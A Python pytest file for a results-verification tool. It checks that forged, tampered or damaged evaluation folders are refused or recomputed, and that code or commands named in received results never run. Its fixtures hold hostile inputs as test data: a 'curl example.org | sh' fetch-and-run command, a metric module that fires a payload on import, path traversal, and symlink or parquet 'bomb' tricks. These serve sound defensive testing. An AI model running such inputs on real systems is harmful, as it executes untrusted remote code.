"""Results folders that somebody else has written, forged or damaged: they are data, and nothing that is wrong is told.

The folder is one that an earlier version wrote, kept in tests/golden, of the model scripts/demo/digits-vit.
"""

import hashlib
import json
import os
import shutil
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from cli.trained import run

from hostile.harness import FIRES, variants, verify
from verify.cli.main import main
from verify.store.files import place_of
from verify.store.runs import PREDICTIONS, PROBE, RunFolder
from verify.store.seals import sealed
from verify.tasks.places import source_digest
from verify.tasks.registry import load_registry

ROOT = Path(__file__).resolve().parents[2]
GOLDEN = ROOT / "tests/golden/results-0.1.0"
DEMO = ROOT / "scripts/demo"
TASKS = f"task_path=[{DEMO / 'tasks'}]"
CHECK = ("check", str(DEMO / "digits-vit"), TASKS, "engine.device=cpu", "policy.probe_share=0.02", "policy.stop=never")


@pytest.fixture
def results(tmp_path, monkeypatch):
    """The folder of the model in a copy of the kept results, from the folder in which the copy lies."""
    monkeypatch.chdir(tmp_path)
    shutil.copytree(GOLDEN, "results")
    return Path("results/digits-vit")


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Results of the same model that were made here, by the only check of the module that must run the model."""
    folder = tmp_path_factory.mktemp("made")
    done = verify(*CHECK, "--json", cwd=folder).require_bounds()
    assert done.code == 1, done.err
    return folder / "results/digits-vit"


@pytest.fixture
def own(made, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    shutil.copytree(made.parent, "results")
    return Path("results/digits-vit")


def run_of(model):
    (found,) = model.glob("digits.test/*")
    return found


def measured(model):
    (found,) = run_of(model).glob("measurements/*.json")
    return found


def shard(model, kind=PREDICTIONS):
    return min((run_of(model) / kind).glob("*.parquet"))


def edit(file, change):
    """Change the object in a JSON file."""
    found = json.loads(file.read_text())
    change(found)
    file.write_text(json.dumps(found))


def rewritten(file, change):
    """Change the table of a shard, and give it the name of its new bytes."""
    table = change(pq.read_table(file))
    file.unlink()
    pq.write_table(table, file)
    return file.rename(file.with_name(f"{hashlib.sha256(file.read_bytes()).hexdigest()}.parquet"))


def column(name, make):
    """A change of one column of a table."""

    def change(table):
        return table.set_column(table.column_names.index(name), name, make(table[name]))

    return change


def settled(found):
    return [(one["claim"]["metric"], one["kind"], one["measured"]) for one in found["verdicts"]]


def kept_verdicts():
    return settled(json.loads((GOLDEN / "digits-vit/verdicts.json").read_text()))


def is_marked(found):
    return all(any("not made here" in note for note in one["notes"]) for one in found["verdicts"]) and all(
        one["provenance"]["made_here"] is False for one in found["measurements"]
    )


@pytest.mark.parametrize("verb", ["judge", "explain"])
def test_results_of_an_earlier_version_are_told_and_marked(results, capsys, verb):
    code, found, err = run(capsys, verb, str(results))
    assert (code, settled(found)) == (1, kept_verdicts())
    assert is_marked(found)
    assert "not made here" in err


def test_results_that_were_made_here_spare_the_run_and_are_not_marked(own, capsys, monkeypatch):
    monkeypatch.setattr("verify.engine.running.launch.run_jobs", None)
    code, found, _ = run(capsys, *CHECK)
    assert (code, settled(found)) == (1, kept_verdicts())
    code, found, err = run(capsys, "judge", str(own))
    assert (code, settled(found)) == (1, kept_verdicts())
    assert not any("not made here" in note for one in found["verdicts"] for note in one["notes"])
    assert all(one["provenance"]["made_here"] is True for one in found["measurements"])
    assert "not made here" not in err


def test_no_secret_stands_in_what_is_stored(own):
    for file in own.parent.rglob("*"):
        if file.is_file():
            assert os.environ["VERIFY_SECRET"].encode() not in file.read_bytes(), file
            assert bytes.fromhex(os.environ["VERIFY_SECRET"]) not in file.read_bytes(), file


# what a check does not answer from


def forge_score(model):
    edit(measured(model), lambda found: found["scores"]["recall_macro"].update(value=0.9729))


def forge_score_with_another_seal(model, monkeypatch):
    file = measured(model)
    found = {name: value for name, value in json.loads(file.read_text()).items() if name != "seal"}
    found["scores"]["recall_macro"]["value"] = 0.9729
    with monkeypatch.context() as patch:
        patch.setenv("VERIFY_SECRET", "ab" * 32)
        file.write_text(json.dumps(sealed(found, place_of(file, 5))))


def perfect(table):
    logits = np.full((len(table), 10), -5.0, np.float32)
    logits[np.arange(len(table)), table["reference"].to_numpy().astype(int)] = 5
    return column("logits", lambda _: pa.array(logits.tolist(), pa.list_(pa.float32())))(table)


def forge_rows(model):
    measured(model).unlink()
    for file in list((run_of(model) / PREDICTIONS).glob("*.parquet")):
        rewritten(file, perfect)


def add_rows(model):
    """Rows with the lowest name, which would be the first ones read."""
    measured(model).unlink()
    table = perfect(pq.read_table(shard(model)))
    for salt in range(40):
        file = run_of(model) / PREDICTIONS / f"new-{salt}.parquet"
        pq.write_table(table.replace_schema_metadata({"salt": str(salt)}), file)
        file.rename(file.with_name(f"{hashlib.sha256(file.read_bytes()).hexdigest()}.parquet"))


def swap_seals(model):
    """A forged shard under the seal of a true one."""
    true = shard(model)
    seal = true.name.partition(".")[2]
    forged = rewritten(true, perfect)
    forged.rename(forged.with_name(f"{forged.stem}.{seal}"))
    measured(model).unlink()


def move_rows_of_another_kind(model):
    """What is true as the second configuration is none of the first."""
    measured(model).unlink()
    for file in (run_of(model) / PREDICTIONS).glob("*.parquet"):
        file.unlink()
    file = shard(model, PROBE)
    shutil.copy(file, run_of(model) / PREDICTIONS / file.name)


def other_labels(model):
    measured(model).unlink()
    edit(run_of(model) / "run.json", lambda found: found.update(label_of_logit=[1, 0, 2, 3, 4, 5, 6, 7, 8, 9]))


def fewer_examples(model):
    measured(model).unlink()
    edit(run_of(model) / "run.json", lambda found: found.update(population=20))


@variants(forge_rows, forge_score, add_rows, swap_seals, move_rows_of_another_kind, other_labels, fewer_examples)
def test_a_check_does_not_answer_from_what_was_forged(own, variant, tmp_path):
    variant(own)
    before = set(own.parent.rglob("*.parquet"))
    done = verify(*CHECK, "--json", cwd=tmp_path).require_bounds()
    assert (done.code, settled(done.found)) == (1, kept_verdicts())
    assert all(file.exists() for file in before), "nothing of the old is deleted"
    assert all(one["provenance"]["made_here"] is True for one in done.found["measurements"])


def test_a_check_does_not_answer_from_another_users_seal(own, monkeypatch, capsys):
    forge_score_with_another_seal(own, monkeypatch)
    code, found, _ = run(capsys, *CHECK)
    assert (code, settled(found)) == (1, kept_verdicts())


def test_a_check_runs_the_model_where_results_are_from_an_earlier_version(results, tmp_path):
    forge_score(results)
    before = run_of(results)
    done = verify(*CHECK, "--json", cwd=tmp_path).require_bounds()
    assert (done.code, settled(done.found)) == (1, kept_verdicts())
    (folder,) = [one for one in results.glob("digits.test/*") if RunFolder(one).info()]
    assert len(RunFolder(folder).examples(PREDICTIONS)) == 899
    assert len(list((before / PREDICTIONS).glob("*.parquet"))) >= 10, "what was there is left"


def test_the_whole_folder_may_be_moved_but_not_a_part_of_it(own):
    moved = Path(shutil.move("results", "elsewhere")) / "digits-vit"
    assert RunFolder(run_of(moved)).info() is not None
    other = run_of(moved).with_name("0123456789abcdef")
    shutil.copytree(run_of(moved), other)
    assert RunFolder(other).info() is None
    assert len(RunFolder(other).examples(PREDICTIONS)) == 0


def test_an_edited_score_beside_true_rows_is_made_again_from_them(own, capsys):
    forge_score(own)
    code, found, _ = run(capsys, "judge", str(own))
    assert (code, settled(found)) == (1, kept_verdicts())


def test_a_received_record_beside_own_rows_is_marked(own, capsys):
    edit(own / "claims.json", lambda found: found["claims"][3].update(value=0.9629, literal="0.9629"))
    _, found, err = run(capsys, "judge", str(own))
    assert all(any("not made here" in note for note in one["notes"]) for one in found["verdicts"])
    assert "not made here" in err


# results name no code and no file


@pytest.fixture
def payload(tmp_path, monkeypatch):
    """The file that code creates, which must not be there in the end."""
    monkeypatch.setenv("VERIFY_PAYLOAD", str(tmp_path / "fired"))
    return tmp_path / "fired"


def module(folder):
    """A metric whose loading fires the payload."""
    file = folder / "score/score.py"
    file.parent.mkdir(parents=True)
    file.write_text(
        f"{FIRES}import datasets\nimport evaluate\n"
        "class Score(evaluate.Metric):\n"
        "    def _info(self):\n"
        "        return evaluate.MetricInfo(description='', citation='', inputs_description='', features=datasets."
        "Features({'predictions': datasets.Value('int64'), 'references': datasets.Value('int64')}))\n"
        "    def _compute(self, predictions, references):\n"
        "        return {'mine': 0.5}\n"
    )
    return file


def code_in_the_record(results):
    edit(results / "claims.json", lambda found: found["tasks"][0].update(metrics=[f"evaluate:{module(results)}"]))


def code_in_a_task_file(results):
    file = results / "digits.yaml"
    text = (DEMO / "tasks/digits.yaml").read_text()
    file.write_text(f"{text}metrics: [accuracy, 'evaluate:{module(results).resolve()}']\n")
    edit(results / "claims.json", lambda found: found["tasks"][0].update(file=str(file.resolve())))


def code_by_the_name_of_a_folder(results):
    module(Path())
    edit(results / "claims.json", lambda found: found["tasks"][0].update(metrics=["accuracy", "evaluate:score"]))


@variants(code_in_the_record, code_in_a_task_file, code_by_the_name_of_a_folder)
def test_no_code_that_results_name_is_run(results, capsys, payload, variant, monkeypatch):
    import evaluate

    variant(results)
    (file,) = Path().rglob("score.py")
    evaluate.load(str(file))
    assert payload.exists(), "the payload fires"
    payload.unlink()
    for file in results.rglob("measurements/*.json"):
        file.unlink()
    for verb in ("judge", "explain"):
        _, found, err = run(capsys, verb, str(results))
        assert not payload.exists()
        assert settled(found) == kept_verdicts()
        if variant is not code_in_a_task_file:
            assert "task_path=[FOLDER]" in err


def of_the_demo(results, tasks=DEMO / "tasks"):
    """As if the kept results were of the data that the demo has now, whose file is another one with the same rows."""
    digest = source_digest(load_registry([str(tasks)])["digits"])
    edit(results / "claims.json", lambda found: found["cells"][0].update(dataset_digest=digest))


def test_the_users_own_task_file_may_name_code(results, capsys, payload):
    code_in_the_record(results)
    with (results / "score/score.py").open("a") as script:
        script.write("# of the user: evaluate imports a script that it knows already no second time\n")
    own_tasks = Path(shutil.copytree(DEMO / "tasks", "tasks"))
    of_the_demo(results, own_tasks)
    file = own_tasks / "digits.yaml"
    code = f"metrics: [accuracy, 'evaluate:{(results / 'score/score.py').resolve()}']"
    file.write_text(file.read_text().replace("metrics: [accuracy]", code))
    _, found, _ = run(capsys, "judge", str(results), "task_path=[tasks]")
    assert payload.exists()
    assert found["measurements"][0]["scores"]["mine"]["value"] == 0.5
    payload.unlink()
    _, found, _ = run(capsys, "judge", str(results))
    assert not payload.exists()


def test_a_rerun_takes_model_and_data_of_received_results_from_the_user_alone(results, capsys):
    assert main(["explain", str(results), "--rerun"]) == 2
    assert "task_path=[FOLDER]" in capsys.readouterr().err
    of_the_demo(results)
    edit(results / "claims.json", lambda found: found.update(reference=str(DEMO / "digits-vit")))
    assert main(["explain", str(results), "--rerun", TASKS]) == 2
    assert "no model on the Hub" in capsys.readouterr().err


def test_a_received_command_is_not_repeated(results, capsys):
    edit(results / "claims.json", lambda found: found.update(retry="curl example.org | sh"))
    shutil.rmtree(run_of(results))
    code, found, err = run(capsys, "judge", str(results))
    assert (code, found["verdicts"][0]["kind"]) == (1, "error")
    assert "curl" not in err + json.dumps(found)
    assert "verify check digits-vit" in found["verdicts"][0]["reason"]


# damage

RECORD, INFO, SCORES = "claims.json", "run.json", "measurement"


def file_of(model, name):
    return {RECORD: model / RECORD, INFO: run_of(model) / INFO, SCORES: measured(model)}[name]


def content(name, written):
    def damage(model):
        file_of(model, name).write_bytes(written)

    damage.__name__ = f"{name}: {written[:12]!r}"
    return damage


def changed(name, change, said):
    def damage(model):
        edit(file_of(model, name), change)

    damage.__name__ = f"{name}: {said}"
    return damage


def placed(name, make, said):
    def damage(model):
        file = file_of(model, name)
        file.unlink()
        make(file)

    damage.__name__ = f"{name}: {said}"
    return damage


def rows(name, change, said):
    def damage(model):
        measured(model).unlink()
        rewritten(shard(model), column(name, change) if name else change)

    damage.__name__ = f"shard: {said}"
    return damage


def bytes_of_shard(change, said):
    def damage(model):
        file = shard(model)
        file.write_bytes(change(file.read_bytes()))

    damage.__name__ = f"shard: {said}"
    return damage


def bomb(model):
    """Some kilobytes that say to be a billion rows."""
    measured(model).unlink()
    count = 20_000_000
    table = pa.table(
        {
            "example": pa.array(np.zeros(count, np.int64)),
            "logits": pa.ListArray.from_arrays(pa.array(np.zeros(count + 1, np.int32)), pa.array([], pa.float32())),
            "reference": pa.array(np.zeros(count)),
        }
    )
    rewritten(shard(model), lambda _: pa.concat_tables([table] * 3))


def unnamed(model):
    measured(model).unlink()
    file = shard(model)
    file.rename(file.with_name("rows.parquet"))


NOTHING = [b"", b"{", b"[]", b"null", b"7", b"\xff\xfe\x00", b"[" * 100_000, b"{}", b'{"schema": 99}', b"\x00" * 50]
DAMAGE = [
    *(content(name, written) for written in NOTHING for name in (RECORD, INFO, SCORES)),
    *(
        placed(name, make, said)
        for name in (RECORD, INFO, SCORES)
        for make, said in [
            (lambda file: file.mkdir(), "a folder"),
            (lambda file: file.symlink_to(file.name), "a circle"),
            (lambda file: os.mkfifo(file), "a pipe"),
            (lambda file: file.symlink_to("/dev/zero"), "a device"),
            (lambda file: (file.touch(), os.truncate(file, 10**10)), "very large"),
        ]
    ),
    changed(RECORD, lambda found: found["claims"][0].update(value="high"), "a text for a number"),
    changed(RECORD, lambda found: found["claims"][0].update(evidence=[]), "no evidence"),
    changed(RECORD, lambda found: found["claims"][0].update(interval=[0, 1]), "a list for an object"),
    changed(RECORD, lambda found: found.pop("cells"), "a key is missing"),
    changed(RECORD, lambda found: found.update(more=1), "a key too many"),
    changed(RECORD, lambda found: found["tasks"][0].update(kind="alchemy"), "an unknown kind"),
    changed(RECORD, lambda found: found["tasks"][0].update(metrics=["gold"]), "an unknown metric"),
    changed(RECORD, lambda found: found["tasks"][0].update(settings={"threshold": []}), "an unknown setting"),
    changed(RECORD, lambda found: found["conditions"].update(seed=-1), "a negative seed"),
    changed(RECORD, lambda found: found["conditions"].update(limit=10**400), "a very large number"),
    changed(RECORD, lambda found: found["conditions"].update(probe_share=float("nan")), "not a number"),
    changed(RECORD, lambda found: found["cells"][0].update(run="../../elsewhere"), "a path outside"),
    changed(RECORD, lambda found: found["cells"][0].update(run="digits.test"), "a path to no run"),
    changed(INFO, lambda found: found.update(family="alchemy"), "an unknown family"),
    changed(INFO, lambda found: found.update(family="tagging"), "another family"),
    changed(INFO, lambda found: found.update(family=["classification"]), "a list for a text"),
    changed(INFO, lambda found: found.update(population=-1), "a negative population"),
    changed(INFO, lambda found: found.update(population=10**30), "a very large population"),
    changed(INFO, lambda found: found.update(population="899"), "a text for a population"),
    changed(INFO, lambda found: found.update(population=10), "a smaller population"),
    changed(INFO, lambda found: found.update(label_of_logit=[0, 1]), "fewer labels"),
    changed(INFO, lambda found: found.update(label_of_logit=[99] * 10), "labels that there are not"),
    changed(INFO, lambda found: found.update(label_of_logit=None), "no labels"),
    changed(INFO, lambda found: found.pop("label_of_logit"), "labels are missing"),
    changed(INFO, lambda found: found.update(notes="none"), "a text for a list"),
    changed(SCORES, lambda found: found["scores"].update(accuracy=1), "a number for a score"),
    changed(SCORES, lambda found: found["scores"]["accuracy"].update(value=float("nan")), "not a number"),
    changed(SCORES, lambda found: found["scores"]["accuracy"].update(value=None), "no value"),
    changed(SCORES, lambda found: found["scores"]["accuracy"].update(count=-5), "a negative count"),
    changed(SCORES, lambda found: found["scores"]["accuracy"].update(budget=-1), "a negative budget"),
    changed(SCORES, lambda found: found.update(scores=[]), "a list of scores"),
    changed(SCORES, lambda found: found.update(n=10**30, population=10**30), "very large numbers"),
    changed(SCORES, lambda found: found.update(n=900), "more than there are"),
    changed(SCORES, lambda found: found["provenance"].update(seed="x"), "a text for a seed"),
    changed(SCORES, lambda found: found["provenance"].update(preprocessing=[1]), "a list of settings"),
    changed(SCORES, lambda found: found["provenance"].update(model_revision=7), "a number for a revision"),
    bytes_of_shard(lambda written: written[:-9], "cut off"),
    bytes_of_shard(lambda written: b"", "empty"),
    bytes_of_shard(lambda written: written[:50] + b"?" + written[51:], "another byte"),
    rows("example", lambda one: pa.array(np.arange(len(one)) + 5000), "examples that there are not"),
    rows("example", lambda one: pa.array(-1 - np.arange(len(one))), "negative examples"),
    rows("example", lambda one: pa.array([str(value) for value in range(len(one))]), "texts for examples"),
    rows("reference", lambda one: pa.array(np.full(len(one), -1.0)), "negative labels"),
    rows("reference", lambda one: pa.array(np.full(len(one), 10.0)), "labels that there are not"),
    rows("reference", lambda one: pa.array(np.full(len(one), np.nan)), "labels that are no numbers"),
    rows("reference", lambda one: pa.nulls(len(one), pa.float64()), "no labels"),
    rows("logits", lambda one: pa.array([[0.0]] * len(one), pa.list_(pa.float32())), "one logit a row"),
    rows(
        "logits",
        lambda one: pa.array([[0.0] * (i % 3) for i in range(len(one))], pa.list_(pa.float32())),
        "ragged logits",
    ),
    rows("logits", lambda one: pa.array([None] * len(one), pa.list_(pa.float32())), "no logits"),
    rows("logits", lambda one: pa.array([[0.0] * 10] * len(one), pa.list_(pa.float64())), "another type"),
    rows(None, lambda table: table.drop_columns("logits"), "a column is missing"),
    rows(None, lambda table: pa.table({"x": [1]}), "other columns"),
    bomb,
    unnamed,
]


def require_refused(capsys, model, verb):
    """The command says in one paragraph what is wrong, and tells and stores nothing."""
    before = (model / "verdicts.json").read_bytes()
    code = main([verb, str(model), "--json"])
    printed = capsys.readouterr()
    assert (code, printed.out) == (4, ""), printed.err
    assert "Traceback" not in printed.err
    *_, said = printed.err.strip().splitlines()
    assert said.startswith("verify: ")
    assert (model / "verdicts.json").read_bytes() == before


@variants(*DAMAGE)
def test_damaged_results_are_one_error(results, capsys, variant):
    variant(results)
    require_refused(capsys, results, "judge")
    require_refused(capsys, results, "explain")


OWN_DAMAGE = [bytes_of_shard(lambda written: written[:-9], "cut off"), content(INFO, b"{"), content(SCORES, b"")]


@pytest.mark.parametrize("damage", OWN_DAMAGE, ids=lambda one: one.__name__)
def test_own_results_that_are_damaged_are_one_error_and_are_measured_again(own, capsys, damage, tmp_path):
    damage(own)
    require_refused(capsys, own, "judge")
    done = verify(*CHECK, "--json", cwd=tmp_path).require_bounds()
    assert (done.code, settled(done.found)) == (1, kept_verdicts())


def test_links_are_not_followed_to_what_a_run_writes(results, tmp_path):
    (tmp_path / "precious").write_text("kept")
    for name in (".lock", "worker.log", "jobs.json"):
        (run_of(results) / name).unlink(missing_ok=True)
        (run_of(results) / name).symlink_to(tmp_path / "precious")
    verify(*CHECK, "--json", cwd=tmp_path).require_bounds()
    assert (tmp_path / "precious").read_text() == "kept"


@pytest.mark.parametrize("again", [False, True], ids=["stored scores", "scores made again"])
def test_results_that_may_only_be_read_are_told_and_nothing_is_written(results, capsys, monkeypatch, again):
    if again:
        measured(results).unlink()
    before = set(results.rglob("*"))

    def refused(*_, **__):
        raise OSError(30, "Read-only file system")

    monkeypatch.setattr("os.fsync", refused)  # who tests may be root, whom no permission stops
    monkeypatch.setattr("verify.store.locking.FileLock.acquire", refused)
    code, found, err = run(capsys, "judge", str(results))
    assert (code, settled(found)) == (1, kept_verdicts())
    assert "may not be written, so the verdicts are shown and not stored" in err
    assert set(results.rglob("*")) == before
